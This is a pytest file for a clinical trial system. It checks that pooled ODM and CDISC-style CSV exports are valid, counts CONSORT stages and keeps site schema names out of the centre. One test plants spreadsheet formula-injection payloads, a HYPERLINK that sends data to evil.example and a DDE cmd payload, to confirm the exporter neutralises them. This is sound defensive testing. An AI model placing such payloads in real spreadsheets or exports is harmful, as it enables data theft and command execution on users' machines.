"""Pooled exports from data the centre rebuilt: ODM 1.3.2 valid with every OID defined (audit
records and signatures included), and the CDISC-style CSV datasets with the CONSORT count."""

from __future__ import annotations

import csv
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from sqlalchemy import select

from msc_desktop.central.export import export_pooled
from msc_desktop.central.service import Center
from msc_desktop.central.tables import CentralBase
from msc_desktop.domain.protocol_reader import load_protocol
from msc_desktop.store import models  # noqa: F401  (the site's tables, for the name scan)
from msc_desktop.store.audit_chain import GENESIS_HASH, ITEM_ROW_FIELDS
from msc_desktop.store.base import Base
from msc_desktop.sync.bundle import BundleHeader, seal_bundle
from msc_desktop.sync.keys import KeyPair
from msc_desktop.sync.odm_clinical import ClinicalSignature
from tests.accounts import CENTRE_PASSPHRASE

from .chains import Instance, catalogue, clinical, instance_rows
from .odmcheck import assert_valid_odm

NS = {"o": "http://www.cdisc.org/ns/odm/v1.3"}


SCR = ("SE.SCR", "F.SCREENING", "IG.SCREENING", "")


def participant(subject: str, status: str, arm: str | None) -> list[Instance]:
    """A participant's item group instances, by OID."""
    instances: list[Instance] = [
        (
            subject,
            "SE.SCR",
            "F.REGISTRATION",
            "IG.REGISTRATION",
            "",
            {
                "IT.DM.SEX": "F",
                "IT.DM.DATE_OF_BIRTH": "1970-01-02",
                "IT.DM.BIRTH_YEAR_MONTH": "1970-01",
                "IT.DM.STATUS": status,
                "IT.DM.FULL_NAME": "Wang Fang",
            },
        ),
        (
            subject,
            "SE.SCR",
            "F.CONSENT",
            "IG.CONSENT",
            "",
            {"IT.IC.CONSENT_DATE": "2026-11-18", "IT.IC.WRITTEN_CONSENT": "Y"},
        ),
        (
            subject,
            *SCR,
            {
                "IT.SV.SCREENING_DATE": "2026-11-19",
                "IT.LB.BILI": ("51.3", "umol/L"),
                "IT.VS.WEIGHT": ("62.5", "kg"),
                "IT.IE.EX_MALIGNANCY": "Y" if status == "screen failed" else "N",
            },
        ),
    ]
    if arm:
        instances.append(
            (
                subject,
                "SE.COMMON",
                "F.RANDOMIZATION",
                "IG.RANDOMIZATION",
                "",
                {
                    "IT.RAND.ARM": arm,
                    "IT.RAND.STRATUM": "B",
                    "IT.RAND.RANDOMIZED_AT": "2026-11-20T08:00",
                    "IT.RAND.DAY0": "2026-11-20",
                },
            )
        )
    if arm == "MSC":
        instances.append(
            (
                subject,
                "SE.W0",
                "F.INFUSION",
                "IG.INFUSION",
                "",
                {
                    "IT.EX.TOTAL_CELLS": ("62500000", "cells"),
                    "IT.EX.PRODUCT_LOT": "LOT-7",
                    "IT.EX.VOLUME_INFUSED_ML": ("50.0", "mL"),
                    "IT.EX.STATUS": "completed",
                    "IT.EX.INFUSION_START": "2026-11-20T09:00",
                },
            )
        )
        instances.append(
            (
                subject,
                "SE.COMMON",
                "F.ADVERSE_EVENT",
                "IG.ADVERSE_EVENT",
                "1",
                {
                    "IT.AE.AE_NUMBER": "1",
                    "IT.AE.TERM": "Fever",
                    "IT.AE.ONSET_DATE": "2026-11-21",
                    "IT.AE.GRADE": "2",
                    "IT.AE.SERIOUS": "Y",
                    "IT.AE.SERIOUS_HOSPITALISATION": "Y",
                    "IT.AE.RELATIONSHIP": "POSSIBLY RELATED",
                },
            )
        )
    if status == "completed":
        instances.append(
            (
                subject,
                "SE.COMMON",
                "F.DISPOSITION",
                "IG.DISPOSITION",
                "",
                {"IT.DS.STATUS": "COMPLETED", "IT.DS.DISPOSITION_DATE": "2027-10-01"},
            )
        )
    return instances


def eligibility_signature(subject: str) -> ClinicalSignature:
    return ClinicalSignature(
        subject,
        *SCR,
        user_id="doctor",
        meaning="eligibility confirmed",
        signed_at="2026-11-19T12:00:00Z",
        mdv_oid=catalogue().metadata_version_oid,
    )


def send(
    center: Center,
    site_id: str,
    keys: KeyPair,
    rows: list[dict[str, Any]],
    signatures: list[ClinicalSignature] | None = None,
) -> None:
    header = BundleHeader(
        site_id,
        "dev",
        1,
        rows[-1]["seq"],
        GENESIS_HASH,
        rows[-1]["hash"],
        "2026-11-29T10:00:00Z",
        center.fingerprint,
        keys.public().fingerprint,
    )
    data = seal_bundle(
        header, rows, clinical(rows, site_id, signatures or []), keys, center.keys.public()
    )
    assert center.import_bundle(data, "b").line() == header.file_name + ": accepted"


@pytest.fixture
def center(tmp_path: Path) -> Iterator[Center]:
    center = Center.init(tmp_path / "center", passphrase=CENTRE_PASSPHRASE)
    site_keys = {site: KeyPair.generate("site", site) for site in ("01", "02")}
    plan = {
        "01": [("01-0001", "completed", "MSC"), ("01-0002", "screen failed", None)],
        "02": [("02-0001", "randomized", "CONTROL"), ("02-0002", "randomized", "MSC")],
    }
    for site_id, keys in site_keys.items():
        center.register_site(site_id, keys.public_document())
        instances = [instance for args in plan[site_id] for instance in participant(*args)]
        send(
            center,
            site_id,
            keys,
            instance_rows(instances),
            [eligibility_signature(subject) for subject, *_ in plan[site_id]],
        )
    yield center
    center.close()


def test_pooled_odm_is_valid_with_audit_records_and_signatures(
    center: Center, tmp_path: Path
) -> None:
    (path,) = export_pooled(center, "odm", tmp_path / "out")
    xml = path.read_bytes()
    assert_valid_odm(xml)
    document = etree.fromstring(xml)
    assert document.get("FileType") == "Snapshot"
    assert document.xpath("//o:SubjectData/@SubjectKey", namespaces=NS) == [
        "01-0001",
        "01-0002",
        "02-0001",
        "02-0002",
    ]
    assert document.xpath(
        "//o:SubjectData[@SubjectKey='02-0001']/o:SiteRef/@LocationOID", namespaces=NS
    ) == ["LOC.02"]
    assert document.xpath("//o:MetaDataVersion/@OID", namespaces=NS) == ["MDV.XJMSC0001.1.0"]
    assert document.xpath("//o:ClinicalData/@MetaDataVersionOID", namespaces=NS) == [
        "MDV.XJMSC0001.1.0"
    ]
    signed = document.xpath("//o:ItemGroupData[o:Signature]/@ItemGroupOID", namespaces=NS)
    assert signed == ["IG.SCREENING"] * 4
    assert document.xpath("//o:SignatureDef/o:Meaning/text()", namespaces=NS) == [
        "eligibility confirmed"
    ]
    bilirubin = document.xpath("//o:ItemData[@ItemOID='IT.LB.BILI']", namespaces=NS)
    assert [
        (item.get("Value"), item.xpath("o:MeasurementUnitRef/@MeasurementUnitOID", namespaces=NS))
        for item in bilirubin
    ] == [("51.3", ["MU.UMOL_L"])] * 4
    audit = [item.xpath("o:AuditRecord/o:UserRef/@UserOID", namespaces=NS)[0] for item in bilirubin]
    assert audit == ["USR.01.NURSE"] * 2 + ["USR.02.NURSE"] * 2
    assert document.xpath("//o:User[@OID='USR.01.DOCTOR']/o:LoginName/text()", namespaces=NS) == [
        "doctor"
    ]
    declared = set(document.xpath("//o:ItemDef/@OID", namespaces=NS))
    assert set(document.xpath("//o:ItemData/@ItemOID", namespaces=NS)) <= declared
    assert b"Wang" not in xml and b"1970-01-02" not in xml
    assert not {"IT.DM.FULL_NAME", "IT.DM.DATE_OF_BIRTH"} & declared


def read(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_csv_datasets_and_consort(center: Center, tmp_path: Path) -> None:
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    assert list(paths) == [
        "DM",
        "SUPPDM",
        "DS",
        "SUPPDS",
        "IE",
        "LB",
        "VS",
        "XC",
        "RS",
        "EX",
        "SUPPEX",
        "AE",
        "SUPPAE",
        "CONSORT",
    ]
    dm = read(paths["DM"])
    assert [(r["USUBJID"], r["SITEID"], r["ARMCD"], r["RFICDTC"]) for r in dm] == [
        ("XJMSC0001-01-0001", "01", "MSC", "2026-11-18"),
        ("XJMSC0001-01-0002", "01", "", "2026-11-18"),
        ("XJMSC0001-02-0001", "02", "CONTROL", "2026-11-18"),
        ("XJMSC0001-02-0002", "02", "MSC", "2026-11-18"),
    ]
    assert [(r["SEX"], r["BRTHDTC"]) for r in dm[:2]] == [("F", "1970-01"), ("F", "1970-01")]
    supp = [(r["USUBJID"][-7:], r["QNAM"], r["QVAL"]) for r in read(paths["SUPPDM"])]
    assert supp[:3] == [
        ("01-0001", "STRATUM", "B"),
        ("01-0001", "STATUS", "completed"),
        ("01-0002", "STATUS", "screen failed"),
    ]
    lb = read(paths["LB"])
    assert {
        (
            r["USUBJID"][-7:],
            r["LBTESTCD"],
            r["LBORRES"],
            r["LBORRESU"],
            r["LBSTRESN"],
            r["LBSTRESU"],
            r["VISIT"],
            r["LBDTC"],
        )
        for r in lb
    } == {
        (subject, "BILI", "51.3", "umol/L", "3", "mg/dL", "SCR", "2026-11-19")
        for subject in ("01-0001", "01-0002", "02-0001", "02-0002")
    }
    vs = read(paths["VS"])
    assert {(r["VSTESTCD"], r["VSORRES"]) for r in vs} == {("WEIGHT", "62.5")}
    ie = read(paths["IE"])
    assert [(r["USUBJID"], r["IECAT"], r["IEORRES"]) for r in ie] == [
        ("XJMSC0001-01-0002", "EXCLUSION", "Y")
    ]
    ex = read(paths["EX"])
    assert [(r["USUBJID"], r["EXDOSE"], r["EXLOT"], r["VISIT"]) for r in ex] == [
        ("XJMSC0001-01-0001", "62500000", "LOT-7", "W0"),
        ("XJMSC0001-02-0002", "62500000", "LOT-7", "W0"),
    ]
    ae = read(paths["AE"])
    assert [
        (r["AETERM"], r["AESER"], r["AETOXGR"], r["AEREL"], r["AESHOSP"], r["AESEQ"]) for r in ae
    ] == [("Fever", "Y", "2", "POSSIBLY RELATED", "Y", "1")] * 2
    ds = read(paths["DS"])
    assert [r["DSDECOD"] for r in ds if r["USUBJID"].endswith("01-0001")] == [
        "INFORMED CONSENT OBTAINED",
        "RANDOMIZED",
        "COMPLETED",
    ]
    consort = {r["stage"]: int(r["count"]) for r in read(paths["CONSORT"])}
    assert consort == {
        "screened": 4,
        "screen_failed": 1,
        "randomized_MSC": 2,
        "randomized_CONTROL": 1,
        "infused": 2,
        "completed": 1,
    }


def test_deleted_items_leave_the_export(center: Center, tmp_path: Path) -> None:
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())
    rows = instance_rows(participant("03-0001", "registered", None))
    rows += instance_rows(
        [("03-0001", *SCR, {"IT.LB.BILI": None})],
        start_seq=len(rows) + 1,
        prev_hash=rows[-1]["hash"],
        action="delete",
        reason="wrong patient",
    )
    send(center, "03", keys, rows)
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    assert not [r for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]
    assert [r["VSORRES"] for r in read(paths["VS"]) if r["USUBJID"].endswith("03-0001")] == ["62.5"]


def test_csv_cells_never_become_spreadsheet_formulas(center: Center, tmp_path: Path) -> None:
    """Issue 15 item 8: an AE term typed at a site became a live formula in the centre's CSV."""
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())
    instances = participant("03-0001", "randomized", "MSC")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Fever")'
    for *_place, items in instances:
        if "IT.AE.TERM" in items:
            items["IT.AE.TERM"] = attack
        if "IT.LB.BILI" in items:
            items["IT.LB.BILI"] = ("-1.5", "mg/dL")
        if "IT.EX.PRODUCT_LOT" in items:
            items["IT.EX.PRODUCT_LOT"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    send(center, "03", keys, instance_rows(instances))
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
    terms = [r["AETERM"] for r in read(paths["AE"]) if r["USUBJID"].endswith("03-0001")]
    assert terms == ["'" + attack]
    lots = [r["EXLOT"] for r in read(paths["EX"]) if r["USUBJID"].endswith("03-0001")]
    assert lots == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    results = [r["LBORRES"] for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]
    assert results == ["-1.5"]
    text = "".join(path.read_text(encoding="utf-8") for path in paths.values())
    assert not any(
        line.startswith(("=", "+", "@")) or ",=" in line or ",@" in line
        for line in text.splitlines()
    )


def site_schema_names() -> set[str]:
    """The site's table and column names that the protocol does not also declare (as an item or
    a form) and that are not members of the audit chain's public row format."""
    protocol = load_protocol()
    declared = {field.name for form in protocol.all_forms for field in form.items}
    declared |= {form.form_id for form in protocol.all_forms}
    declared |= {*ITEM_ROW_FIELDS, "row_format", "row_digest", "prev_hash", "hash"}
    names = set(Base.metadata.tables)
    names |= {column.name for table in Base.metadata.tables.values() for column in table.columns}
    return names - declared


def test_no_site_table_or_column_name_in_the_centre_store_or_its_exports(
    center: Center, tmp_path: Path
) -> None:
    """Issue 13: the centre stores and exports by OID and never needs the site's schema."""
    forbidden = site_schema_names()
    assert {
        "item_value",
        "relationship_to_msc",
        "decod",
        "participant_id",
        "table_name",
    } <= forbidden
    found: set[str] = set()
    with center.store.engine.connect() as connection:
        for table in CentralBase.metadata.sorted_tables:
            found |= {column.name for column in table.columns} & forbidden
            for row in connection.execute(select(table)):
                found |= {value for value in row if isinstance(value, str)} & forbidden
    for path in export_pooled(center, "csv", tmp_path / "out"):
        found |= {
            cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row
        } & forbidden
    (odm,) = export_pooled(center, "odm", tmp_path / "out")
    for element in etree.fromstring(odm.read_bytes()).iter():
        found |= {*element.attrib.values(), (element.text or "").strip()} & forbidden
    assert found == set()


def test_the_centre_does_not_import_the_site_store_models() -> None:
    """At run time too (imports inside functions included); `msc_desktop.cli` holds both
    programs, so its package loads the site's command line."""
    code = (
        "import sys, msc_desktop.central.service, msc_desktop.central.server, "
        "msc_desktop.central.export, msc_desktop.central.protect; "
        "print('msc_desktop.store.models' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "False"


def test_hbv_and_cirrhosis_evidence_reach_lb_and_xc(center: Center, tmp_path: Path) -> None:
    """Issue 19 item 5: HBsAg (LB, dated by its test), HBV DNA (one LB row: the number when
    quantified, else the coded result) and the basis of the cirrhosis diagnosis with the liver
    stiffness (XC, dated by the examination), from the items' CDISC annotations."""
    keys = KeyPair.generate("site", "03")
    center.register_site("03", keys.public_document())

    def screening(subject: str, values: dict[str, str | tuple[str, str]]) -> Instance:
        return (
            subject,
            *SCR,
            {
                catalogue().field_item("screening", name).oid: value
                for name, value in values.items()
            },
        )

    instances = participant("03-0001", "randomized", "CONTROL") + [
        screening(
            "03-0001",
            {
                "hbsag": "POSITIVE",
                "hbsag_date": "2026-10-02",
                "hbv_dna_status": "QUANTIFIED",
                "hbv_dna": ("23000", "IU/mL"),
                "hbv_dna_date": "2026-11-03",
                "lab_date": "2026-11-18",
                "cirrhosis_method": "ELASTOGRAPHY",
                "liver_stiffness": "18.6",
                "cirrhosis_date": "2026-09-15",
                "ascites": "slight",
            },
        )
    ]
    instances += participant("03-0002", "randomized", "CONTROL") + [
        screening(
            "03-0002",
            {
                "hbsag": "POSITIVE",
                "hbsag_date": "2026-11-01",
                "hbv_dna_status": "NOT_DETECTED",
                "hbv_dna_date": "2026-11-04",
                "cirrhosis_method": "BIOPSY",
                "cirrhosis_date": "2025-06-30",
            },
        )
    ]
    send(center, "03", keys, instance_rows(instances))
    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}

    def findings(domain: str, subject: str) -> list[tuple[str, ...]]:
        return [
            (
                r[f"{domain}TESTCD"],
                r[f"{domain}TEST"],
                r[f"{domain}ORRES"],
                r[f"{domain}ORRESU"],
                r[f"{domain}STRESN"],
                r[f"{domain}STRESU"],
                r[f"{domain}DTC"],
            )
            for r in read(paths[domain])
            if r["USUBJID"] == f"XJMSC0001-{subject}"
        ]

    assert findings("LB", "03-0001") == [
        ("BILI", "Bilirubin", "51.3", "umol/L", "3", "mg/dL", "2026-11-18"),
        ("HBSAG", "HBsAg (hepatitis B surface antigen)", "POSITIVE", "", "", "", "2026-10-02"),
        ("HBVDNA", "Hepatitis B Virus DNA", "23000", "IU/mL", "23000", "IU/mL", "2026-11-03"),
    ]
    assert findings("LB", "03-0002") == [
        ("BILI", "Bilirubin", "51.3", "umol/L", "3", "mg/dL", "2026-11-19"),
        ("HBSAG", "HBsAg (hepatitis B surface antigen)", "POSITIVE", "", "", "", "2026-11-01"),
        ("HBVDNA", "Hepatitis B Virus DNA", "NOT_DETECTED", "", "", "", "2026-11-04"),
    ]
    assert findings("XC", "03-0001") == [
        ("ASCITES", "Ascites", "slight", "", "", "", "2026-11-19"),
        ("CIRRDXM", "Basis of the cirrhosis diagnosis", "ELASTOGRAPHY", "", "", "", "2026-09-15"),
        (
            "LSTIFF",
            "Liver stiffness (transient elastography)",
            "18.6",
            "kPa",
            "18.6",
            "kPa",
            "2026-09-15",
        ),
    ]
    assert findings("XC", "03-0002") == [
        ("CIRRDXM", "Basis of the cirrhosis diagnosis", "BIOPSY", "", "", "", "2025-06-30")
    ]
